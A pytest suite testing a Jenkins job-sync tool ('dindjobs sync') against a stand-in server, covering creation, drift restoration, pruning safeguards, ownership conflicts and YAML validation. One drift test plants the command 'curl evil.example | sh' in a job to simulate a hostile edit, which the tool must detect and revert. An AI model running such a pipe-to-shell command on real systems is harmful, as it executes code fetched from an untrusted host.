"""`dindjobs sync` end to end against the Jenkins stand-in (the cases where `jenkins-jobs update` fails)."""

from __future__ import annotations

import json
import shutil
import time
from pathlib import Path

import pytest

from dindjobs.config import Secret, Settings
from dindjobs.jenkins.client import Jenkins
from dindjobs.jobs.apply import apply_plan
from dindjobs.jobs.ledger import Ledger, ledger_path
from dindjobs.jobs.plan import Action, make_plan
from dindjobs.jobs.render import render
from dindjobs.jobs.sync import run_sync
from dindjobs.standin.plugins import Requested, write_plugin
from support.cli import run_cli as run
from support.net import free_port
from support.standin_fixtures import ADMIN_PASSWORD, ADMIN_TOKEN, ADMIN_USER, job_xml

REPO = Path(__file__).resolve().parents[2]
FIXTURES = REPO / "tests" / "jobs" / "fixtures"

JOBS = """
- job:
    name: team
    project-type: folder
- job-template:
    name: 'team/{component}-build'
    builders:
      - shell: 'make {component}'
- project:
    name: team
    component: [api, web, cli]
    jobs: ['team/{component}-build']
- job:
    name: standalone
    builders:
      - shell: echo standalone
- view:
    name: Team view
    view-type: list
    job-name: [standalone]
"""
EXPECTED_JOBS = ["standalone", "team", "team/api-build", "team/cli-build", "team/web-build"]




def yaml_dir(tmp_path, text=JOBS, name="jobs.yaml") -> Path:
    d = tmp_path / "yaml"
    d.mkdir(exist_ok=True)
    (d / name).write_text(text)
    return d


def client_for(standin, password=False) -> Jenkins:
    secret = Secret(ADMIN_PASSWORD, "test") if password else Secret(ADMIN_TOKEN, "test")
    kind = "password" if password else "token"
    return Jenkins(Settings(url=standin.url, user=ADMIN_USER, timeout=10, **{kind: secret}))


def job_names(standin) -> list[str]:
    client = client_for(standin)
    try:
        return sorted(item.name for item in client.list_items().jobs.values())
    finally:
        client.close()


def writes_since(standin, mark: int):
    return [r for r in standin.requests[mark:] if r.method not in ("GET", "HEAD")]


def test_first_sync_creates_everything_and_second_sends_no_write(standin_env, tmp_path, capsys):
    d = yaml_dir(tmp_path)
    code, out, err = run(capsys, "sync", str(d))
    assert code == 0, err
    assert job_names(standin_env) == EXPECTED_JOBS
    assert "Applied 6, failed 0, skipped 0, unchanged 0." in out
    assert ADMIN_TOKEN not in out + err

    mark = len(standin_env.requests)
    code, out, err = run(capsys, "sync", str(d))
    assert code == 0, err
    assert writes_since(standin_env, mark) == []
    reads = [r.path for r in standin_env.requests[mark:]]
    assert "/api/json" in reads and reads.count("/api/json") == 1  # one tree listing
    assert sum(p.endswith("/config.xml") for p in reads) == 6  # and every config checked on the server
    assert "In sync: 6 items unchanged, nothing sent." in out


def test_no_op_sync_takes_the_byte_shortcut_yet_still_reads_every_config(standin_env, tmp_path, capsys):
    d = yaml_dir(tmp_path)
    assert run(capsys, "sync", str(d))[0] == 0
    mark = len(standin_env.requests)
    code, out, err = run(capsys, "sync", "--plan", "--json", str(d))
    assert code == 0, err
    data = json.loads(out)
    items = data.get("plan", data)["items"]
    reasons = {c["reason"] for c in items}
    assert reasons == {"identical to the last sync"}
    reads = [r.path for r in standin_env.requests[mark:]]
    assert sum(p.endswith("/config.xml") for p in reads) == 6  # the shortcut is confirmed by the server


def test_example_jobs_round_trip_without_phantom_changes(standin_env, tmp_path, capsys):
    jjb = tmp_path / "jjb"
    shutil.copytree(REPO / "jjb", jjb)
    assert run(capsys, "sync", str(jjb))[0] == 0
    mark = len(standin_env.requests)
    code, out, _ = run(capsys, "sync", "--plan", str(jjb))
    assert code == 0 and out.strip().endswith("unchanged.") and "to create" not in out
    assert writes_since(standin_env, mark) == []


def test_fresh_jenkins_at_the_same_url_gets_every_job_despite_warm_state(standin_factory, clean_env, tmp_path,
                                                                         capsys, monkeypatch):
    port = free_port()
    first = standin_factory(port=port)
    monkeypatch.setenv("DINDJOBS_URL", first.url)
    monkeypatch.setenv("DINDJOBS_USER", ADMIN_USER)
    monkeypatch.setenv("DINDJOBS_TOKEN", ADMIN_TOKEN)
    d = yaml_dir(tmp_path)
    assert run(capsys, "sync", str(d))[0] == 0
    state = Path(clean_env / "state")
    assert ledger_path(state, first.url, first.identity).exists()  # warm local state for that URL
    first.stop()

    fresh = standin_factory(port=port)  # a brand-new, empty Jenkins answering at the same URL
    assert fresh.url == first.url and fresh.identity != first.identity and job_names(fresh) == []
    code, out, err = run(capsys, "sync", str(d))
    assert code == 0, err
    assert job_names(fresh) == EXPECTED_JOBS
    assert "Applied 6, failed 0" in out


def test_edit_in_jenkins_is_drift_and_is_restored(standin_env, standin_client, tmp_path, capsys):
    d = yaml_dir(tmp_path)
    assert run(capsys, "sync", str(d))[0] == 0
    original = client_for(standin_env).get_job_config("standalone")
    edited = original.replace("echo standalone", "curl evil.example | sh")
    assert standin_client.post("job/standalone/config.xml", data=edited.encode(),
                               headers={"Content-Type": "application/xml"}).status_code == 200

    code, out, _ = run(capsys, "sync", "--plan", str(d))
    assert code == 2
    assert "! drifted job standalone: changed in Jenkins since the last sync" in out
    assert "-      <command>curl evil.example | sh</command>" in out
    assert "+      <command>echo standalone</command>" in out

    code, out, _ = run(capsys, "sync", str(d))
    assert code == 0
    assert "echo standalone" in client_for(standin_env).get_job_config("standalone")
    assert run(capsys, "sync", "--plan", str(d))[0] == 0


def test_view_edited_in_jenkins_is_restored(standin_env, standin_client, tmp_path, capsys):
    d = yaml_dir(tmp_path)
    assert run(capsys, "sync", str(d))[0] == 0
    client = client_for(standin_env)
    edited = client.get_view_config("Team view").replace("<string>standalone</string>", "")
    assert standin_client.post("view/Team%20view/config.xml", data=edited.encode(),
                               headers={"Content-Type": "application/xml"}).status_code == 200
    code, out, _ = run(capsys, "sync", "--plan", str(d))
    assert code == 2 and "drifted view Team view" in out
    assert run(capsys, "sync", str(d))[0] == 0
    assert "<string>standalone</string>" in client.get_view_config("Team view")


def test_job_deleted_in_jenkins_is_recreated(standin_env, standin_client, tmp_path, capsys):
    d = yaml_dir(tmp_path)
    assert run(capsys, "sync", str(d))[0] == 0
    assert standin_client.post("job/team/job/api-build/doDelete").status_code == 302
    assert "team/api-build" not in job_names(standin_env)
    code, out, _ = run(capsys, "sync", str(d))
    assert code == 0
    assert "job team/api-build" in out and "create" in out
    assert job_names(standin_env) == EXPECTED_JOBS


def test_unowned_items_are_never_touched(standin_env, standin_client, tmp_path, capsys):
    def create_by_hand(name, text):
        r = standin_client.post(f"createItem?name={name}", data=job_xml(text).encode(),
                                headers={"Content-Type": "text/xml"})
        assert r.status_code == 200

    create_by_hand("legacy", "echo made by hand")  # a name --prune could consider
    create_by_hand("standalone", "echo someone else's")  # a name the YAML defines
    d = yaml_dir(tmp_path)
    mark = len(standin_env.requests)
    code, out, _ = run(capsys, "sync", "--prune", "--yes", "--json", str(d))
    assert code == 3  # the conflict is reported, the rest applied
    results = {r["name"]: r for r in json.loads(out)["result"]["items"]}
    assert results["standalone"]["action"] == "conflict" and results["standalone"]["result"] == "skipped"
    assert "not created by dindjobs" in results["standalone"]["reason"]
    touched = {r.path for r in writes_since(standin_env, mark)}
    assert not any("legacy" in p or "/job/standalone/" in p for p in touched)
    assert "echo someone else's" in client_for(standin_env).get_job_config("standalone")

    # Positive control: an item sync did create is pruned once the YAML drops it.
    (d / "jobs.yaml").write_text(JOBS.replace("component: [api, web, cli]", "component: [api, web]"))
    mark = len(standin_env.requests)
    code, out, _ = run(capsys, "sync", "--prune", "--yes", str(d))
    assert code == 3  # still the standalone conflict
    assert [r.path for r in writes_since(standin_env, mark)] == ["/job/team/job/cli-build/doDelete"]
    assert "legacy" in job_names(standin_env)


def test_owned_item_replaced_by_hand_is_not_pruned(standin_env, standin_client, tmp_path, capsys):
    d = yaml_dir(tmp_path)
    assert run(capsys, "sync", str(d))[0] == 0
    standin_client.post("job/standalone/doDelete")
    standin_client.post("createItem?name=standalone", data=job_xml("echo new owner").encode(),
                        headers={"Content-Type": "text/xml"})
    (d / "jobs.yaml").write_text(JOBS.split("- job:\n    name: standalone")[0])
    mark = len(standin_env.requests)
    code, out, _ = run(capsys, "sync", "--prune=delete", "--yes", "--json", str(d))
    results = {r["name"]: r for r in json.loads(out)["result"]["items"]}
    assert code == 3 and "replaced in Jenkins" in results["standalone"]["reason"]
    # The view went out of the YAML too and is ours: only it is pruned.
    assert [r.path for r in writes_since(standin_env, mark)] == ["/view/Team%20view/doDelete"]
    assert "standalone" in job_names(standin_env)


def test_prune_guard_and_disable_mode(standin_env, tmp_path, capsys):
    many = "".join(f"- job:\n    name: j{i:02d}\n" for i in range(12))
    d = yaml_dir(tmp_path, many)
    assert run(capsys, "sync", str(d))[0] == 0
    (d / "jobs.yaml").write_text("- job:\n    name: j00\n")

    mark = len(standin_env.requests)
    code, out, err = run(capsys, "sync", "--prune", "--yes", str(d))
    assert code == 1 and "refusing to delete 11 items: more than 3" in err
    assert writes_since(standin_env, mark) == []
    code, out, _ = run(capsys, "sync", "--plan", "--prune", str(d))
    assert code == 2 and "Plan: 11 to delete, 1 unchanged." in out and "--force" in out

    code, out, _ = run(capsys, "sync", "--prune=disable", "--yes", "--force", "--json", str(d))
    assert code == 0
    result = json.loads(out)["result"]
    assert result["summary"] == {"ok": 11, "failed": 0, "skipped": 0, "unchanged": 1}
    client = client_for(standin_env)
    assert client.job_info("j05", tree="disabled")["disabled"] is True
    assert client.job_info("j00", tree="disabled")["disabled"] is False

    code, out, _ = run(capsys, "sync", "--prune", "--yes", "--force", str(d))
    assert code == 0 and job_names(standin_env) == ["j00"]


def test_prune_without_yes_is_refused_off_a_tty(standin_env, tmp_path, capsys):
    d = yaml_dir(tmp_path, "- job:\n    name: a\n- job:\n    name: b\n")
    assert run(capsys, "sync", str(d))[0] == 0
    (d / "jobs.yaml").write_text("- job:\n    name: a\n")
    mark = len(standin_env.requests)
    code, _, err = run(capsys, "sync", "--prune", str(d))
    assert code == 1 and "--yes" in err and writes_since(standin_env, mark) == []


def test_disabled_is_kept_when_absent_and_enforced_when_set(standin_env, standin_client, tmp_path, capsys):
    d = yaml_dir(tmp_path, "- job:\n    name: toggled\n    builders:\n      - shell: echo 1\n")
    assert run(capsys, "sync", str(d))[0] == 0
    assert standin_client.post("job/toggled/disable").status_code == 302
    (d / "jobs.yaml").write_text("- job:\n    name: toggled\n    builders:\n      - shell: echo 2\n")
    assert run(capsys, "sync", str(d))[0] == 0
    client = client_for(standin_env)
    assert "echo 2" in client.get_job_config("toggled")
    assert client.job_info("toggled", tree="disabled")["disabled"] is True  # the server's value kept

    (d / "jobs.yaml").write_text("- job:\n    name: toggled\n    disabled: false\n"
                                 "    builders:\n      - shell: echo 2\n")
    assert run(capsys, "sync", str(d))[0] == 0
    assert client.job_info("toggled", tree="disabled")["disabled"] is False
    assert run(capsys, "sync", "--plan", str(d))[0] == 0


def test_a_rejected_job_does_not_stop_the_others(standin_env, tmp_path, capsys):
    # The server lists the matrix-project plugin (so the plugin check lets the job through), but
    # the stand-in cannot load matrix jobs: its createItem answers 500, as a broken plugin would.
    write_plugin(standin_env.home / "plugins", Requested("matrix-project"))
    standin_env.restart()
    d = yaml_dir(tmp_path, JOBS + "- job:\n    name: team/pipeline\n    project-type: matrix\n")
    code, out, _ = run(capsys, "sync", str(d))
    assert code == 3
    assert "job team/pipeline" in out and "failed" in out  # the summary table names it
    assert "Applied 6, failed 1, skipped 0, unchanged 0." in out
    code, out, _ = run(capsys, "sync", "--json", str(d))
    assert code == 3
    (failed,) = [r for r in json.loads(out)["result"]["items"] if r["result"] != "ok"]
    assert failed["name"] == "team/pipeline" and failed["reason"].startswith(
        "500 Jenkins rejected the XML of job 'team/pipeline'")
    assert job_names(standin_env) == EXPECTED_JOBS


@pytest.mark.parametrize("case, line", [("syntax-error", 4), ("unknown-module", 1), ("missing-variable", 4),
                                        ("duplicate-job", 4), ("illegal-name", 2)])
def test_bad_yaml_sends_nothing(standin_env, tmp_path, capsys, monkeypatch, case, line):
    d = tmp_path / "bad"
    d.mkdir()
    (d / "good.yaml").write_text("- job:\n    name: fine\n")
    shutil.copy(FIXTURES / f"{case}.yaml", d / f"{case}.yaml")
    monkeypatch.chdir(tmp_path)
    mark = len(standin_env.requests)
    code, out, err = run(capsys, "sync", "bad")
    assert code == 1 and out == ""
    assert f"dindjobs: error: bad/{case}.yaml:{line}:" in err
    assert "Traceback" not in err
    # Reading the server overlaps with rendering, but nothing is written: all is validated first.
    assert writes_since(standin_env, mark) == []
    assert all(r.method == "GET" for r in standin_env.requests[mark:])


def test_missing_folder_is_found_before_any_write(standin_env, tmp_path, capsys):
    d = yaml_dir(tmp_path, "- job:\n    name: fine\n- job:\n    name: nowhere/job\n")
    mark = len(standin_env.requests)
    code, _, err = run(capsys, "sync", str(d))
    assert code == 1 and "folder 'nowhere' is neither in the YAML nor in Jenkins" in err
    assert writes_since(standin_env, mark) == []


def test_slow_folder_creation_with_eight_workers(standin_env, tmp_path, capsys, monkeypatch):
    handle = standin_env.handle

    def slow_folders(req):
        if req.raw_path.endswith("createItem") and b"cloudbees.hudson.plugins.folder.Folder" in req.body:
            time.sleep(0.3)  # a slow folder create: children must not race it
        return handle(req)

    monkeypatch.setattr(standin_env, "handle", slow_folders)
    text = "".join(f"- job:\n    name: f{i}\n    project-type: folder\n" for i in range(3))
    text += "".join(f"- job:\n    name: f{i}/sub\n    project-type: folder\n" for i in range(3))
    text += "".join(f"- job:\n    name: f{i}/sub/j{k}\n" for i in range(3) for k in range(8))
    d = yaml_dir(tmp_path, text)
    code, out, err = run(capsys, "sync", "--workers", "8", str(d))
    assert code == 0, out + err
    assert "does not exist" not in out + err
    creates = [(r.path, r.query) for r in standin_env.requests if r.path.endswith("createItem")]
    assert len(creates) == 3 + 3 + 24
    order = [path + "?" + query for path, query in creates]
    for i in range(3):
        folder = order.index(f"/createItem?name=f{i}")
        sub = order.index(f"/job/f{i}/createItem?name=sub")
        children = [n for n, entry in enumerate(order) if entry.startswith(f"/job/f{i}/job/sub/createItem")]
        assert folder < sub < min(children)


def test_restart_between_plan_and_apply_is_survived(standin, tmp_path):
    settings = Settings(url=standin.url, user=ADMIN_USER, password=Secret(ADMIN_PASSWORD, "test"),
                        timeout=10, state_dir=tmp_path / "state")
    client = Jenkins(settings)  # password auth: POSTs need a session-bound crumb
    d = yaml_dir(tmp_path)
    first = run_sync(settings, [d], client=client)
    assert not first.result.failed

    (d / "jobs.yaml").write_text(JOBS.replace("make {component}", "make -j4 {component}"))
    plan, ledger = make_plan(render([d]), client,
                             ledger_for=lambda url, identity: Ledger.open(settings.state_dir, url, identity))
    assert plan.counts()["update"] == 3
    old_session = standin.session
    standin.restart()
    assert standin.session != old_session
    mark = len(standin.requests)

    result = apply_plan(plan, client, ledger, workers=4)
    ledger.save()
    assert not result.failed, [(r.name, r.reason) for r in result.failed]
    log = standin.requests[mark:]
    assert any(r.status == 403 for r in log)  # the old crumb was refused...
    assert [r.path for r in log].count("/crumbIssuer/api/json") == 1  # ...and renewed once for all workers
    again = run_sync(settings, [d], plan_only=True, client=client)
    assert not again.plan.pending
    client.close()


def test_plan_json_is_structured(standin_env, tmp_path, capsys):
    d = yaml_dir(tmp_path)
    code, out, err = run(capsys, "sync", "--plan", "--json", str(d))
    assert code == 2
    data = json.loads(out)
    assert data["plan"]["summary"]["create"] == 6 and data["plan"]["in_sync"] is False
    item = next(i for i in data["plan"]["items"] if i["name"] == "standalone")
    assert item["action"] == Action.CREATE and "+      <command>echo standalone</command>" in item["diff"]
    assert "result" not in data and err == ""
